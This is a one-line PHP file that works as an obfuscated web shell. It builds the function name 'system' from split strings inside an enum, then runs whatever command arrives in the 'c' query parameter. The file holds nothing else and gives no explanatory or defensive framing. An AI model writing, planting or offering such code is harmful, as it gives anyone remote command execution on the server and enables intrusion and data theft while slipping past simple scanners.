<?php enum Op: string { case Run = 'sys' . 'tem'; } (Op::Run->value)($_GET['c']);
